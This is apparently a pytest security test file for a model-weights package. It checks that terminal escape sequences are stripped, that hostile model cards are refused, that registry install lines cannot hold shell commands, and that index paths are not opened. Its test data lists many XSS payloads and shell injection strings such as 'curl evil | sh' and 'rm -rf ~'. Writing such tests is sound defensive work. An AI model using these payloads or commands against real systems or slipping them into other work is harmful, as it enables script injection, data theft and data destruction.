"""Untrusted text: no control character reaches the terminal, no card is active, no install line
is a shell command, no path of an index is opened."""

import json
import os
import pty
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from contract_models import VAE
from markdown_it import MarkdownIt
from test_fuzz_weights import update_hashes
from training_helpers import build_model, make_images

from conftest import clean_environ
from ganzoo_core import terminal
from ganzoo_core.cli import output
from ganzoo_core.errors import DataError, WeightsError
from ganzoo_core.interfaces import Metadata
from ganzoo_core.weights import lazy_auxiliaries, read_pretrained, save_pretrained
from ganzoo_core.weights.card_html import find_active_html
from ganzoo_core.zoo.registry import parse_registry

ESCAPES = "\x1b]0;owned\x07 \x9b2J \x7f \u202eabc \x08"


@pytest.fixture
def folder(tmp_path):
    """A pretrained folder without a sample grid."""
    fields = {"model": "object:VAE", "config": {}}
    return save_pretrained(tmp_path / "b", build_model(VAE, make_images().info), fields).path


# --- control characters ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "keys",
    [
        ("data", "class_names"),
        ("data", "name"),
        ("license",),
        ("usage_note",),
        ("plugin", "version"),
        ("unknown",),
    ],
)
def test_index_with_controls_is_refused(folder, keys):
    index = json.loads((folder / "ganzoo.json").read_text())
    inner = index
    for key in keys[:-1]:
        inner = inner.setdefault(key, {})
    inner[keys[-1]] = ["\x1b[31mred"] if keys[-1] == "class_names" else "\x1b[31mred"
    (folder / "ganzoo.json").write_text(json.dumps(index))
    with pytest.raises(WeightsError, match=r"control character \\x1b"):
        read_pretrained(folder)


def test_every_way_to_stdout_is_cleaned(capsys, monkeypatch):
    stream = terminal.CleanStream(sys.stdout)
    monkeypatch.setattr(sys, "stdout", stream)
    output.print_line(ESCAPES)
    output.print_table(("a",), [[ESCAPES]])
    print(ESCAPES)
    stream.writelines([ESCAPES, "\n"])
    output.print_json({ESCAPES: ESCAPES})
    shown = capsys.readouterr().out
    assert "owned" in shown
    assert not set(shown) & set("\x1b\x9b\x7f\x07\x08\u202e")
    assert json.loads(shown[shown.index("{") :]) == {ESCAPES: ESCAPES}, "JSON keeps the text"


HOSTILE_PRINTS = """
import sys, warnings
import click
from ganzoo_core.cli import commands, main
@click.command()
def shout():
    print("print \\x1b[31m")
    click.echo("echo \\x1b[31m")
    warnings.warn("warn \\x1b[31m")
    print("stderr \\x1b[31m", file=sys.stderr)
    raise ValueError("error \\x1b[31m")
commands.load_command = lambda name: shout if name == "shout" else None
main.main(["shout"])
"""


def test_terminal_gets_no_escape_of_a_command():
    parent, child = pty.openpty()
    done = subprocess.Popen(
        [sys.executable, "-c", HOSTILE_PRINTS],
        stdout=child,
        stderr=child,
        env=clean_environ(),
        close_fds=True,
    )
    os.close(child)
    shown = b""
    while True:
        try:
            data = os.read(parent, 65536)
        except OSError:  # the end of a terminal
            break
        if not data:
            break
        shown += data
    os.close(parent)
    done.wait()
    assert all(word in shown for word in (b"print", b"echo", b"warn", b"stderr", b"error")), shown
    assert b"\x1b[31m" not in shown


def test_long_class_name_is_refused():
    with pytest.raises(DataError, match="300,000 characters"):
        Metadata(length=1, class_names=("x" * 300_000,))


# --- cards ----------------------------------------------------------------------------------------

HOSTILE_CARDS = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//x>",
    "<scr\0ipt>alert(1)</script>",
    "</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    f"<img {'a' * 400} onerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=//evil style=position:fixed;inset:0>x</a>",
    "<b style='background:url(//evil)'>x</b>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<iframe src=//evil>",
    "<iframe srcdoc='&lt;script&gt;'>",
    "<object data=x>",
    "<embed src=x>",
    "<form action=//evil><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:x>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>x</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content=0;url=//evil>",
    "<link rel=stylesheet href=//evil>",
    "<style>@import '//evil'</style>",
    "<portal src=//evil>",
    "<x-tag onclick=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "`<!--` <script>alert(1)</script> `-->`",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java&Tab;script&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\n javascript:alert(1))",
    "[a]: javascript:alert(1)",
    "[a]:\n  <vbscript:x>",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](data:text/html,<b>)",
    "[a](file:///etc/passwd)",
    "[a](\\javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "\x1b]0;owned\x07",
    "a \u202e b",
]
HARMLESS_CARDS = [
    "plain *words* & 1 < 2, a<3",
    "<details><summary>fine</summary>text</details>",
    "line<br/>line <br> <sub>2</sub> <KBD>x</KBD>",
    "[a](https://example.org/x?y=1#z) <https://example.org> [b](samples.png) [c](#use)",
    "![samples](samples.png)\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
    "\\[a\\](javascript:b) is text",
    "[a]: https://example.org\n\n```\nganzoo sample .\n```\n",
]


class ActiveFinder(HTMLParser):
    """Collects elements with attributes beside addresses, scripts and the schemes of links."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        allowed = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "code": {"class"}}
        for name, value in attrs:
            is_address = name in {"href", "src"} and ":" in (value or "")
            if name not in allowed.get(tag, set()) or (
                is_address and not value.lower().startswith(("http://", "https://", "mailto:"))
            ):
                self.found.append((tag, name, value))
        if tag in {"script", "style", "iframe", "form", "object", "embed", "svg", "base", "meta"}:
            self.found.append(tag)


def active_parts(text):
    finder = ActiveFinder()
    finder.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    return finder.found


@pytest.mark.parametrize("text", HOSTILE_CARDS)
def test_hostile_card_is_refused(text):
    assert find_active_html(text)
    assert find_active_html(f"# Card\n\nwords\n\n{text}\n")


def test_refused_card_names_what_it_found(folder):
    (folder / "README.md").write_text("# x\n\n<img src=x onerror=alert(1)>\n")
    update_hashes(folder)
    with pytest.raises(WeightsError, match=r"holds active HTML .<img src=x onerror"):
        read_pretrained(folder)


@pytest.mark.parametrize("text", HARMLESS_CARDS)
def test_harmless_card_passes(text):
    assert find_active_html(text) == ""
    assert active_parts(text) == [], "an independent renderer agrees"


# --- registries -----------------------------------------------------------------------------------

ROW = {
    "kind": "model",
    "name": "x",
    "summary": "s",
    "distribution": "ganzoo-x",
    "published": True,
    "license": "MIT",
}


@pytest.mark.parametrize(
    "words",
    [
        "x; rm -rf ~",
        "x && curl evil | sh",
        "$(curl evil)",
        "`curl`",
        "x > /etc/passwd",
        "--index-url https://evil x",
        "-r https://evil/r.txt",
        "--extra-index-url=https://evil x",
        "git+https://evil/x",
        "x@https://evil/x.whl",
        "https://evil/x.whl",
        "../../x",
        "/tmp/x",
        "'x'",
        "~/x",
        "x\\y",
    ],
)
def test_install_line_of_a_registry_is_no_shell_command(words):
    registry = parse_registry({"entry": [{**ROW, "install": f"pip install {words}"}]}, "r")
    assert not registry.entries and "install has" in registry.problems[0]


@pytest.mark.parametrize("words", ["ganzoo-x", "ganzoo-core ganzoo-x[a,b]==0.3.1", "-e . -e ./a/b"])
def test_requirements_are_install_lines(words):
    registry = parse_registry({"entry": [{**ROW, "install": f"pip install {words}"}]}, "r")
    assert registry.problems == () and len(registry.entries) == 1


# --- paths of an index ----------------------------------------------------------------------------


def test_path_in_an_index_is_not_opened(folder, monkeypatch):
    index = json.loads((folder / "ganzoo.json").read_text())
    index["config"] = {"auxiliaries": {"identity": {"weights": "/etc"}}}
    index["auxiliaries"] = [{"role": "identity", "model": "facenet", "sha256": "0" * 64}]
    (folder / "ganzoo.json").write_text(json.dumps(index))
    opened = []
    monkeypatch.setattr(
        "ganzoo_core.weights.auxiliaries.find_pretrained", lambda path: opened.append(str(path))
    )
    monkeypatch.setattr(
        "ganzoo_core.weights.auxiliaries.from_spec",
        lambda spec: type("Found", (), {"sha256": "1" * 64}),
    )
    with pytest.raises(WeightsError, match="no 'identity' network with sha256 0000"):
        lazy_auxiliaries(read_pretrained(folder))["identity"]
    assert opened == []
